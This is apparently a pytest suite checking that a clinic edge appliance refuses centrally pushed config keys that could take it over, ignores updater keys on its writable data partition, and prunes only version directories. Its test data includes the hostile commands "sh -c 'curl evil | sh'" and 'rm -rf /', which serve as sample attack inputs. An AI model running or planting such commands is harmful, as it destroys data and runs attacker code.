"""County settings can tune a box, never take it over (issue 13): a real hub pushes each forbidden
key down to the real sync client; the whole item is refused and logged with the key named, and
nothing of it reaches county-config.json or the loaded config. The root updater's keys are not
read from a config file on the writable data partition, and pruning only removes versions."""
from __future__ import annotations

import json
import os
from datetime import datetime, timezone
from pathlib import Path

import pytest

from conftest import clinic_edge
from edge.core import config as config_mod
from sync_fixtures import enroll, hub, sync_env  # noqa: F401

FORBIDDEN = [
    ("update", "release_key", "/var/lib/clinic-edge/updates/ready/evil.pub"),
    ("update", "restart_command", "sh -c 'curl evil | sh'"),
    ("update", "stop_command", "rm -rf /"),
    ("update", "prefix", "/var/lib/clinic-edge"),
    ("update", "python", "/var/lib/clinic-edge/evil-python"),
    ("update", "health_url", "http://10.9.9.9/healthz"),
    ("web", "secret_key", "known-to-the-hub"),
    ("web", "listen", "0.0.0.0:80"),
    ("web", "secure_cookies", False),
    ("sync", "hub_url", "http://10.9.9.9:8470"),
    ("appliance", "boot_file", "/var/lib/clinic-edge/secrets/x"),
    ("appliance", "usb_backup_dir", "/var/lib/clinic-edge"),
]


@pytest.fixture
def hub_database(tmp_path) -> str:   # SQLite only: the hub's storage is not what is tested here
    return f"sqlite:///{tmp_path / 'hub.db'}"


def _push(hub, kind: str, rid: str, version: int, payload: dict) -> None:
    hub.store().put_downlink("clinic-a", kind, rid, version, json.dumps(payload, ensure_ascii=False),
                             now=datetime.now(timezone.utc))


def test_each_forbidden_key_is_refused_whole_logged_and_nothing_applied(env, node, hub):
    enroll(env, hub)
    _push(hub, "config", "sync", 1, {"nightly_hour": 4})                      # a tuning key: applied
    version = 2
    for section, key, value in FORBIDDEN:   # each along with an allowed key: the whole item goes
        tuning = {"web": {"idle_minutes": 11}, "update": {"health_timeout": 99}, "sync": {"attempts": 3},
                  "appliance": {"keep_backups": 3}}[section]
        _push(hub, "config", section, version, {**tuning, key: value})
        version += 1
    r = clinic_edge(sync_env(env), "sync", "--once", check=False)
    assert r.returncode == 0, r.stderr
    for section, key, _ in FORBIDDEN:
        assert f"{section}.{key} may not be set centrally" in r.stderr, key
    county = json.loads((node.data_dir / config_mod.COUNTY_FILE).read_text())
    assert county == {"sync": {"nightly_hour": 4}}
    loaded = config_mod.load(env=sync_env(env))
    assert loaded["sync"]["nightly_hour"] == 4
    assert loaded["web"]["idle_minutes"] == 30 and loaded["update"]["health_timeout"] == 120
    assert loaded["update"]["release_key"] == "/etc/clinic-edge/release.pub"
    assert loaded["update"]["prefix"] == "/opt/clinic-edge"
    assert loaded["web"]["secret_key"] == ""


def test_a_county_file_from_before_the_allowlist_is_read_only_for_its_tuning_keys(env, node):
    (node.data_dir / config_mod.COUNTY_FILE).write_text(json.dumps(
        {"update": {"restart_command": "evil", "release_key": "/tmp/evil.pub", "health_timeout": 60},
         "web": {"secret_key": "forged"}}))
    loaded = config_mod.load(env=env)
    assert loaded["update"]["health_timeout"] == 60
    assert loaded["update"]["restart_command"].startswith("systemctl restart")
    assert loaded["update"]["release_key"] == "/etc/clinic-edge/release.pub"
    assert loaded["web"]["secret_key"] == ""


def test_the_updaters_keys_are_ignored_in_a_config_file_on_the_data_partition(env, node, tmp_path):
    """On the appliance /etc/clinic-edge/config.toml links into the data partition."""
    data = node.data_dir
    (data / "config.toml").write_text('[update]\nrelease_key = "%s"\nrestart_command = "evil"\n'
                                      'health_timeout = 77\n' % (data / "evil.pub"))
    link = tmp_path / "etc-config.toml"
    os.symlink(data / "config.toml", link)
    loaded = config_mod.load(link, env={k: v for k, v in env.items() if not k.startswith("CLINIC_EDGE_UPDATE")})
    assert loaded["update"]["release_key"] == "/etc/clinic-edge/release.pub"
    assert loaded["update"]["restart_command"].startswith("systemctl restart")
    assert loaded["update"]["health_timeout"] == 77
    # the same file on the read-only root (here: outside the data directory) may set them
    outside = tmp_path / "root-config.toml"
    outside.write_text((data / "config.toml").read_text())
    assert config_mod.load(outside, env=env)["update"]["restart_command"] == "evil"


def test_apply_refuses_a_prefix_over_the_data_directory_before_pruning_anything(env, node, tmp_path):
    from edge.appliance import bundle

    data = Path(env["CLINIC_EDGE_DATA"])
    for d in ("secrets", "backups", "broker", "0.1.0"):
        (data / d).mkdir(exist_ok=True)
    (data / "secrets" / "web-secret-key").write_text("x")
    key = tmp_path / "keys"
    bundle.make_release_key(key / "release.key", key / "release.pub")
    (data / "x.bundle").write_bytes(b"not signed")
    e = {**env, "CLINIC_EDGE_UPDATE_PREFIX": str(data), "CLINIC_EDGE_UPDATE_RELEASE_KEY": str(key / "release.pub")}
    r = clinic_edge(e, "update", "apply", str(data / "x.bundle"), check=False)
    assert r.returncode != 0 and "overlaps the data directory" in r.stderr
    assert (data / "secrets" / "web-secret-key").exists() and (data / "0.1.0").is_dir()


def test_pruning_removes_only_version_directories_and_never_follows_a_symlink(tmp_path):
    from edge.appliance.update import Layout

    prefix = tmp_path / "opt"
    outside = tmp_path / "precious"
    outside.mkdir()
    (outside / "keep.txt").write_text("x")
    for d in ("0.1.0", "0.2.0", "secrets", "lost+found"):
        (prefix / d).mkdir(parents=True)
    os.symlink(outside, prefix / "0.0.9")
    os.symlink("0.2.0", prefix / "current")
    assert Layout(prefix).prune({"0.2.0"}) == ["0.1.0"]
    assert sorted(p.name for p in prefix.iterdir()) == ["0.0.9", "0.2.0", "current", "lost+found", "secrets"]
    assert (outside / "keep.txt").exists()
